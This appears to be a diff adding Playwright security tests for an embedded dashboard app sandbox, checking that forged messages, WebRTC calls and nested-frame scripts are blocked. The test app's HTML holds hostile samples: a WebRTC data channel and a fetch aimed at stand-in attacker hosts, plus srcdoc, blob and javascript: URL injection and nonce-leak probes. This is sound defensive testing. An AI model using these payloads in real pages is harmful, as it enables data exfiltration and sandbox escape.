@@ -1,3 +1,4 @@
+import dgram from "node:dgram";
 import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
 import { E2E } from "./support/env";
 import { createSession, dashboardUrl, eventsOf, getDemoConfig, mark, recorded, waitForEvent } from "./support/embed-harness";
@@ -180,6 +181,124 @@ test("a hostile app reaches no network, no parent, no top window, no other workb
   expect(fromEmbed.some((d) => d.includes("forged"))).toBe(false);
   expect((await eventsOf(page, "svc:event:dashboard-loaded")).filter((e) => e.payload.publicId === created.publicId)).toHaveLength(1);
   expect(await eventsOf(page, "svc:event:filters-changed")).toEqual([]);
+});
+
+test("the app channel is its port: app messages posted to the embed's window, or over a second port, are ignored", async ({ page }) => {
+  // Well-formed app messages (they would pass the channel's guard) sent around the port: to the
+  // embed's window directly, and over a port of the app's own offered in a second `app:connect`.
+  // Then the same kind of message through `svc`, over the channel's port, as the control.
+  const { publicId } = await createAppDashboard(page.request, "e2e-port-only-app", {
+    html: String.raw`<p id="out">waiting</p><script>
+      const app = (message) => Object.assign({ source: "svc-app" }, message);
+      function around() {
+        parent.postMessage(app({ type: "app:drilldown", member: "sales.status", value: "via-window" }), "*");
+        parent.postMessage(app({ type: "app:set-filter", member: "sales.status", filter: { operator: "equals", value: "via-window" } }), "*");
+        parent.postMessage(app({ type: "app:error", message: "via-window", name: "Forged" }), "*");
+        const second = new MessageChannel();
+        parent.postMessage(app({ type: "app:connect" }), "*", [second.port2]);
+        second.port1.postMessage(app({ type: "app:drilldown", member: "sales.status", value: "via-second-port" }));
+        second.port1.postMessage(app({ type: "app:loaded" }));
+      }
+      // While the document loads, and again once it has.
+      around();
+      addEventListener("load", () => setTimeout(around, 200));
+      addEventListener("load", () => setTimeout(() => {
+        svc.drilldown("sales.status", "through-port");
+        svc.loaded();
+        document.getElementById("out").textContent = "sent";
+      }, 700));
+    </script>`,
+  });
+  await openInHost(page, publicId);
+  const loaded = await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 30_000 });
+  expect(loaded.payload).toMatchObject({ publicId, widgetCount: 1 });
+  const drill = await waitForEvent(page, "svc:event:drilldown");
+  expect(drill.payload).toMatchObject({ member: "sales.status", value: "through-port", widgetId: "app" });
+  // Give anything that slipped through time to arrive, then look at everything the embed sent.
+  await page.waitForTimeout(500);
+  const fromEmbed = (await recorded(page)).filter((m) => m.fromEmbed).map((m) => JSON.stringify(m.data));
+  // Only the app's own `loaded` (over the port, after its drilldown) ended the load, not the second port's.
+  const at = (type: string) => fromEmbed.findIndex((d) => d.includes(`"type":"${type}"`));
+  expect(at("svc:event:dashboard-loaded")).toBeGreaterThan(at("svc:event:drilldown"));
+  expect(fromEmbed.filter((d) => d.includes("via-window") || d.includes("via-second-port"))).toEqual([]);
+  expect(await eventsOf(page, "svc:event:drilldown")).toHaveLength(1);
+  expect(await eventsOf(page, "svc:event:filters-changed")).toEqual([]);
+  expect((await eventsOf(page, "svc:event:error")).filter((e) => e.payload.context === "app")).toEqual([]);
+});
+
+// WebRTC is not governed by the policy: the runtime removes it before the app's code runs, and a
+// document the app makes in a nested frame (a fresh realm) runs no script without the nonce.
+const WEBRTC_APP = String.raw`<pre id="out">{}</pre>
+<script>
+  const results = {};
+  const note = (key, value) => { results[key] = value; document.getElementById("out").textContent = JSON.stringify(results); };
+  const CONFIG = { iceServers: [{ urls: "stun:__UDP_HOST__" }, { urls: "turn:__UDP_HOST__?transport=udp", username: "exfil-from-app", credential: "x" }] };
+  async function attempt(key, get) {
+    try {
+      const RTC = get();
+      if (typeof RTC !== "function") return note(key, "blocked:" + typeof RTC);
+      const pc = new RTC(CONFIG);
+      pc.createDataChannel("exfil");
+      await pc.setLocalDescription(await pc.createOffer());
+      await new Promise((r) => setTimeout(r, 1500));
+      note(key, "reached:" + pc.iceGatheringState);
+    } catch (e) { note(key, "blocked:" + ((e && e.name) || "error")); }
+  }
+  // Script of its own in a nested document: an element, an event handler, a javascript: URL.
+  const NESTED = "<script>const pc = new RTCPeerConnection(" + JSON.stringify(CONFIG) + "); pc.createDataChannel('x');" +
+    "pc.createOffer().then((o) => pc.setLocalDescription(o)); parent.postMessage('nested-script-ran', '*');<\/script>" +
+    "<img src=x onerror=\"parent.postMessage('nested-handler-ran', '*')\">";
+  addEventListener("message", (e) => { if (typeof e.data === "string") note("message:" + e.data, true); });
+  // What would give the nonce away.
+  const leaks = [];
+  addEventListener("securitypolicyviolation", (e) => leaks.push("violation:" + e.originalPolicy));
+  (async () => {
+    leaks.push(document.documentElement.outerHTML, String(document.currentScript.nonce), String(document.currentScript.getAttribute("nonce")));
+    await attempt("direct", () => window.RTCPeerConnection);
+    await attempt("webkit", () => window.webkitRTCPeerConnection);
+    await attempt("blankFrame", () => { const f = document.createElement("iframe"); document.body.appendChild(f); return f.contentWindow.RTCPeerConnection; });
+    const srcdoc = document.createElement("iframe"); srcdoc.srcdoc = NESTED; document.body.appendChild(srcdoc);
+    const js = document.createElement("iframe"); js.src = "javascript:parent.postMessage('nested-javascript-url-ran', '*')"; document.body.appendChild(js);
+    const blob = document.createElement("iframe"); blob.src = URL.createObjectURL(new Blob([NESTED], { type: "text/html" })); document.body.appendChild(blob);
+    const script = document.createElement("script"); script.textContent = "window.postMessage('inserted-script-ran', '*')"; document.body.appendChild(script);
+    fetch("__ATTACKER__/violation").catch(() => {});
+    await new Promise((r) => setTimeout(r, 2000));
+    note("leaks", leaks.join("\n"));
+    note("finished", true);
+    svc.loaded();
+  })();
+</script>`;
+
+test("an app gets no WebRTC: not in its window, not from a nested document, and not the nonce that would run one", async ({ page }) => {
+  // The attacker's STUN/TURN server: a UDP socket on the attacker's port number.
+  const port = Number(new URL(E2E.attackerUrl).port);
+  const packets: number[] = [];
+  const udp = dgram.createSocket("udp4");
+  udp.on("message", (m) => packets.push(m.length));
+  await new Promise<void>((resolve) => udp.bind(port, "127.0.0.1", () => resolve()));
+  try {
+    const html = WEBRTC_APP.replace(/__UDP_HOST__/g, `127.0.0.1:${port}`).replace(/__ATTACKER__/g, E2E.attackerUrl);
+    const { publicId } = await createAppDashboard(page.request, "e2e-webrtc-app", { html });
+    await openInHost(page, publicId);
+    await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 30_000 });
+    const app = page.frameLocator("#embed").frameLocator("[data-testid=app-frame]");
+    await expect(app.locator("#out")).toContainText('"finished":true', { timeout: 20_000 });
+    const results = JSON.parse((await app.locator("#out").textContent())!) as Record<string, string>;
+    expect(results.direct).toBe("blocked:undefined");
+    expect(results.webkit).toBe("blocked:undefined");
+    expect(results.blankFrame).toMatch(/^blocked:/);
+    // No script ran in a nested document, nor one the app inserted.
+    expect(Object.keys(results).filter((k) => k.startsWith("message:"))).toEqual([]);
+    // The nonce never reached the app's code.
+    const srcdoc = (await page.frameLocator("#embed").getByTestId("app-frame").getAttribute("srcdoc"))!;
+    const nonce = /'nonce-([A-Za-z0-9_-]+)'/.exec(srcdoc)![1]!;
+    expect(results.leaks).toBeTruthy();
+    expect(results.leaks).not.toContain(nonce);
+    await page.waitForTimeout(500);
+    expect(packets).toEqual([]);
+  } finally {
+    udp.close();
+  }
 });
 
 test("an app that never says loaded still ends in dashboard-loaded after the time-out, with an error", async ({ page }) => {
